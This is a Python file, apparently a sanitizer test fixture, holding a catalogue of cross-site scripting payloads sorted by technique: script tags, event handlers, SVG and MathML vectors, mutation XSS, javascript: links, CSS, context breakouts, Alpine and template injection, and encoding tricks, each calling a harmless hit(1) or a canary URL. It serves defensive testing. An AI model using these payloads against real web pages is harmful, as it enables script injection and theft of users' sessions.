"""What an attacker types: kinds of the OWASP lists on XSS and on evading its filters.

Run where it should not, each calls hit(1) or asks for /xss-canary.
"""

SCRIPTS = (
    "<script>hit(1)</script>",
    "<ScRiPt src=//xss-canary.example/x.js></sCrIpT>",
    "<script/xss src=/xss-canary></script>",
    "<<script>hit(1);//<</script>",
    "<scr<script>ipt>hit(1)</scr</script>ipt>",
    "<script>hit(1)",
    "<template><script>hit(1)</script></template><slot>",
)
EVENTS = (
    "<img src=/xss-canary onerror=hit(1)>",
    "<img src=x onerror=hit&#40;1&#41;>",
    '<IMG """><SCRIPT>hit(1)</SCRIPT>">',
    "<img/src=x/onerror=hit(1)>",
    "<img src=x:x onerror = hit(1) alt=`x`>",
    "<img src=`javascript:hit(1)`>",
    "<img src=/media/pictures/../../xss-canary alt=x onload=hit(1)>",
    "<body onload=hit(1)>",
    "<input autofocus onfocus=hit(1)>",
    "<details open ontoggle=hit(1)>",
    "<video><source onerror=hit(1)></video><audio src=x onerror=hit(1)>",
    "<marquee onstart=hit(1)>",
    "<div style='animation-name:x' onanimationstart=hit(1)>",
    "<p onclick=hit(1) onmouseover=hit(1) id=CKEDITOR name=cookie>段</p>",
)
FOREIGN = (
    "<svg onload=hit(1)>",
    "<svg><script>hit(1)</script></svg>",
    "<svg><script xlink:href=data:,hit(1)></script></svg>",
    "<svg><animate onbegin=hit(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:hit(1)><text y=20>点</text></a></svg>",
    "<math><a xlink:href=javascript:hit(1)>点</a></math>",
    "<math href=javascript:hit(1)>点</math>",
)
# What is harmless as it is read first, and is not once it was written and read again.
MUTATIONS = (
    "<svg><style><img src=x onerror=hit(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=hit(1)>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=hit(1) src>">',
    "<listing>&lt;img src=x onerror=hit(1)&gt;</listing>",
    "<p>&lt;img src=x onerror=hit(1)&gt;</p>",
    "<!--><img src=x onerror=hit(1)>-->",
    "--><img src=x onerror=hit(1)><!--",
    "<![CDATA[><img src=x onerror=hit(1)>]]>",
    "]]><img src=x onerror=hit(1)>",
)
ADDRESSES = (
    "<a href=javascript:hit(1)>点</a>",
    '<a href="jav&#x09;ascript:hit(1)">点</a>',
    '<a href=" &#14; javascript:hit(1)">点</a>',
    "<a href=vbscript:hit(1)>点</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4='>点</a>",
    "<iframe src=javascript:hit(1)></iframe>",
    "<iframe srcdoc='<script>parent.hit(1)</script>'></iframe>",
    "<iframe src=/xss-canary></iframe>",
    "<object data='data:text/html,<script>hit(1)</script>'></object>",
    "<embed src=/xss-canary>",
    "<base href=//xss-canary.example/>",
    "<meta http-equiv=refresh content=0;url=/xss-canary>",
    "<link rel=stylesheet href=/xss-canary>",
    "<form action=javascript:hit(1)><button formaction=javascript:hit(1)>点</button>",
    "javascript:hit(1)",
)
STYLES = (
    "<style>@import '/xss-canary';body{background:url(/xss-canary)}</style>",
    "<p style='background:url(/xss-canary)'>段</p>",
    "<p style='width:expression(hit(1));behavior:url(/xss-canary)'>段</p>",
)
# What ends the place in which a text stands.
BREAKS = (
    '" autofocus onfocus=hit(1) x="',
    "' onmouseover='hit(1)",
    '"><img src=x onerror=hit(1)>',
    "</title><img src=x onerror=hit(1)>",
    "</textarea><svg onload=hit(1)>",
    "</script><script>hit(1)</script>",
    "');hit(1);('",
    '");hit(1);("',
    "\\');hit(1)//",
    "`+hit(1)+`",
)
# The skin of the staff side brings Alpine, which reads attributes.
TEMPLATES = (
    "{{constructor.constructor('hit(1)')()}}",
    "{% include '/xss-canary' %}",
    "${hit(1)}",
    "<div x-data x-init=hit(1)></div>",
    '<div x-data="{a:hit(1)}" :class=hit(1) x-text=hit(1) x-html=hit(1)></div>',
    "<button x-data @click=hit(1) x-on:click=hit(1) x-effect=hit(1)>点</button>",
    '" x-data x-init="hit(1)',
)
ENCODED = (
    "&lt;script&gt;hit(1)&lt;/script&gt;",
    "&#60;img src=x onerror=hit(1)&#62;",
    "%3Cscript%3Ehit(1)%3C/script%3E",
    "\\u003cimg src=x onerror=hit(1)\\u003e",
    "\uff1cimg src=x onerror=hit(1)\uff1e",
    "<img src=x\u2028onerror=hit(1)>",
    "<scr\x00ipt>hit(1)</scr\x00ipt>",
    "<img src=x onerror=hit(1)//\u202e>",
)

PAYLOADS = (
    *SCRIPTS, *EVENTS, *FOREIGN, *MUTATIONS, *ADDRESSES, *STYLES, *BREAKS, *TEMPLATES, *ENCODED,
)  # fmt: skip
